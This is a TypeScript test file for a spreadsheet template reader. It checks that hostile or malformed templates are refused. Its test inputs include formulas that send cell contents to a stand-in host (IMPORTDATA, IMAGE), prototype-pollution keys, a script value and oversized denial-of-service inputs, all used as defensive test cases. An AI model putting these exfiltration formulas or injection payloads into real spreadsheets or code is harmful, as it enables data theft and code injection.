import { readTemplateFile, writeTemplateFile } from '../../../src/app/templates/template-file';
import { planLibrary } from '../../../src/library';
import { languages, sentence } from '../../../src/messages';
import * as fc from '../../support/fast-check';

/** A small captured sheet, as a file has it. */
const file = (block: object = {}, rest: object = {}): string =>
  JSON.stringify({
    format: 'kefu-template',
    version: 1,
    id: 'daily',
    name: { 'zh-CN': '日报', en: 'Daily' },
    description: { 'zh-CN': '', en: '' },
    columns: [80, { repeat: 2, width: 100 }],
    blocks: [
      { kind: 'cells', rows: 4, contents: [{ at: 'A1', values: ['姓名', '询单', '成交'] }], ...block },
    ],
    ...rest,
  });

const told = (text: string): string => {
  const result = readTemplateFile(text);
  if (result.ok) throw new Error('it was taken for a template');
  return sentence(result.failure, 'zh-CN');
};

describe('readTemplateFile', () => {
  it('reads a captured sheet, with or without a byte order mark, and every built-in template', () => {
    expect(readTemplateFile(file())).toMatchObject({ ok: true });
    expect(readTemplateFile(`\uFEFF${file()}`)).toMatchObject({ ok: true });
    for (const builtIn of planLibrary.templates) {
      expect(readTemplateFile(JSON.stringify(builtIn))).toMatchObject({ ok: true });
    }
  });

  it.each([
    ['nothing', '  \n', '选择模板文件'],
    ['no JSON', '你好', '第 1 行第 1 个字符'],
    ['a broken line', '{\n  "format": kefu\n}', '第 2 行第 13 个字符'],
    ['half a file', file().slice(0, 100), '到第 1 行第 101 个字符就断了'],
    ['another kind of file', '{"name":"x"}', '不是客服大促助手的模板文件'],
    ['a list', '[]', '不是客服大促助手的模板文件'],
    ['a newer version', file({}, { version: 2 }), '第 2 版'],
    ['no version', file({}, { version: '1' }), '$.version'],
    ['an unknown key', file({ script: 'alert(1)' }), '$.blocks[0].script'],
    ['a key that objects have', file().replace('"contents"', '"__proto__":{},"contents"'), '__proto__'],
    [
      'a content beyond the sheet',
      file({ contents: [{ at: 'B1', values: [1, 2, 3] }] }),
      '$.blocks[0].contents[0]',
    ],
    [
      'a style beyond the sheet',
      file({ styles: [{ areas: ['A1:A5'], style: {} }] }),
      '$.blocks[0].styles[0].areas',
    ],
    ['a colour that is code', file({ tabColor: 'url(x)' }), '$.blocks[0].tabColor'],
    ['merges that overlap', file({ merges: ['A1:B2', 'B2:C3'] }), '$.blocks[0].merges[1]'],
    ['everything frozen', file({ frozenRows: 4 }), '$.blocks[0].frozenRows'],
    [
      'a formula that is not finished',
      file({ formulas: [{ area: 'B2', formula: '=SUM(A1:A3' }] }),
      'B2 的公式 =SUM(A1:A3 带不走：没有写完',
    ],
    ['an operator at the end', file({ formulas: [{ area: 'B2', formula: '=A1*' }] }), '没有写完'],
    ['a parenthesis too many', file({ formulas: [{ area: 'B2', formula: '=(A1))' }] }), '从“)”开始读不懂'],
    ['brackets that cross', file({ formulas: [{ area: 'B2', formula: '=SUM({1,2)}' }] }), '从“)”开始读不懂'],
    [
      'a comma where no function is',
      file({ formulas: [{ area: 'B2', formula: '=(A1,A2)' }] }),
      '从“,”开始读不懂',
    ],
    ['a quote too many', file({ formulas: [{ area: 'B2', formula: '=A1&"x""' }] }), '读不懂'],
    ['two values side by side', file({ formulas: [{ area: 'B2', formula: '=A1 A2' }] }), '从“A2”开始读不懂'],
    ['two operators', file({ formulas: [{ area: 'B2', formula: '=A1*/A2' }] }), '从“/”开始读不懂'],
    ['no formula', file({ formulas: [{ area: 'B2', formula: '= ' }] }), '没有写完'],
    ['too many rows', file({ rows: 2001 }), '$.blocks[0].rows'],
    ['too many columns', file({}, { columns: [{ repeat: 201, width: 80 }] }), '$.columns'],
    [
      'a long text',
      file({ contents: [{ at: 'A1', values: ['x'.repeat(50_001)] }] }),
      'contents[0].values[0]',
    ],
    [
      'a second block',
      file({}, { blocks: [{ kind: 'note', text: 'x' }, JSON.parse(file()).blocks[0]] }),
      '$.blocks[1]',
    ],
  ])('names the place for %s', (_what, text, place) => {
    expect(told(text)).toContain(place);
  });

  it.each([
    ['=IMPORTDATA("http://x.example/")', 'IMPORTDATA'],
    ['=IMPORTXML("http://x.example/","//a")', 'IMPORTXML'],
    ['=IMPORTRANGE("1abc","A1")', 'IMPORTRANGE'],
    ['=1+importhtml("http://x.example/","table",1)', 'IMPORTHTML'],
    ['=IMAGE("http://x.example/?"&A1)', 'IMAGE'],
    ['=HYPERLINK("http://x.example/","点我")', 'HYPERLINK'],
    ['=GOOGLETRANSLATE(A1,"zh","en")', 'GOOGLETRANSLATE'],
    ['=GOOGLEFINANCE("X")', 'GOOGLEFINANCE'],
    ['=WEBSERVICE("http://x.example/")', 'WEBSERVICE'],
    ['=INDIRECT("工资表!A1")', 'INDIRECT'],
    ['=IF(TRUE,IMAGE ("http://x.example/"),0)', 'IMAGE'],
    ["='工资表'!A1", '工资表'],
    ['=Sheet2!$A$1', 'Sheet2'],
    ['=A5', 'A5'],
    ['=SUM(A1:D1)', 'A1:D1'],
    ['=D:D', 'D:D'],
    ['={A1:A3}', '{…}'],
    ['=FILTER(A1:A3,A1:A3>1)', 'FILTER'],
    ['=#REF!+1', '#REF!'],
    ['=NOSUCHFUNCTION(1)', 'NOSUCHFUNCTION'],
    ['=A1`B1', '`'],
  ])('refuses the formula %s in a cell and names the cell and %s', (formula, name) => {
    const message = told(file({ formulas: [{ area: 'B2', formula }] }));
    expect(message).toContain('B2');
    expect(message).toContain(name);
  });

  it('finds a forbidden formula in validations and conditional formats too, and where a filled one runs off the sheet', () => {
    const formula = '=IMPORTDATA("http://x.example/"&A1)>0';
    const style = { background: '#ffffff' };
    expect(told(file({ validations: [{ areas: ['C3'], rule: { kind: 'formula', formula } }] }))).toContain(
      'C3',
    );
    expect(
      told(file({ conditionalFormats: [{ kind: 'formula', areas: ['A2'], formula, style }] })),
    ).toContain('A2');
    expect(readTemplateFile(file({ formulas: [{ area: 'A1:A3', formula: '=A2' }] }))).toMatchObject({
      ok: true,
    });
    expect(told(file({ formulas: [{ area: 'A1:A4', formula: '=B1+A2' }] }))).toContain('A4');
  });

  it.each([
    '=SUM(A:A)',
    '=A1*$C$4',
    '=IFERROR(VLOOKUP(A2,$A$1:$C$4,2,FALSE),"没有")',
    '=1.5%+KEFU_PRESALES(A1,200,30%,50%,500)',
  ])('lets %s stand', (formula) => {
    expect(readTemplateFile(file({ formulas: [{ area: 'B2', formula }] }))).toMatchObject({ ok: true });
  });

  it('refuses files that are short and yet ask for endless work', () => {
    const huge = { rows: 2000 };
    const columns = { columns: [{ repeat: 200, width: 80 }] };
    const everywhere = 'A1:GR2000';
    const again = Array.from({ length: 5000 }, () => everywhere);
    const style = { background: '#ffffff' };
    expect(told(file({ ...huge, styles: [{ areas: again, style }] }, columns))).toContain(
      '$.blocks[0].styles',
    );
    const formula = `=${'1+'.repeat(20_000)}1`;
    expect(told(file({ ...huge, formulas: [{ area: everywhere, formula }] }, columns))).toContain('formulas');
    expect(told('['.repeat(400_000))).toContain('嵌套太深');
    expect(told(`"${'x'.repeat(500_000)}"`)).toContain('文件太大');
  });

  it('gives a template or a message in both languages for any text, any JSON, and any change of a good file, and leaves objects alone', () => {
    const good = file({
      formulas: [{ area: 'B2:B3', formula: '=A2+1' }],
      styles: [{ areas: ['A1:C1'], style: { bold: true, numberFormat: '0' } }],
      validations: [{ areas: ['C2'], rule: { kind: 'list', values: ['是', '否'] }, strict: true }],
      conditionalFormats: [{ kind: 'formula', areas: ['A2:C4'], formula: '=$A2>1', style: { bold: true } }],
      notes: [{ at: 'A1', text: '备注' }],
      merges: ['A4:B4'],
    });
    const keys = [
      'rows',
      'at',
      'values',
      'area',
      'areas',
      'formula',
      'style',
      'kind',
      'columns',
      'blocks',
      'id',
      'name',
    ];
    const changed = fc
      .tuple(
        fc.constantFrom(...keys),
        fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.constantFrom('A0', 'ZZZ9999999', '=', -1)),
        fc.nat(6),
      )
      .map(([key, value, nth]) => {
        let seen = -1;
        return JSON.stringify(
          JSON.parse(good, (each, old: unknown) => {
            if (each === key) seen += 1;
            return each === key && seen === nth ? value : old;
          }),
        );
      });
    const inserted = fc
      .tuple(
        fc.nat(good.length),
        fc.constantFrom('"__proto__":{"polluted":1},', '"constructor":{"prototype":{}},', '{', '\u0000', '"'),
      )
      .map(([at, text]) => good.slice(0, at) + text + good.slice(at));
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.json(), changed, inserted), (text) => {
        const result = readTemplateFile(text);
        if (result.ok) {
          const written = writeTemplateFile(result.value);
          expect(written.ok && readTemplateFile(written.value)).toEqual(result);
        } else {
          for (const language of languages) {
            expect(sentence(result.failure, language)).toMatch(/^(?!.*(undefined|NaN|\[object)).{8,}$/s);
          }
        }
        expect({}).not.toHaveProperty('polluted');
      }),
      { numRuns: 2000 },
    );
  });
});
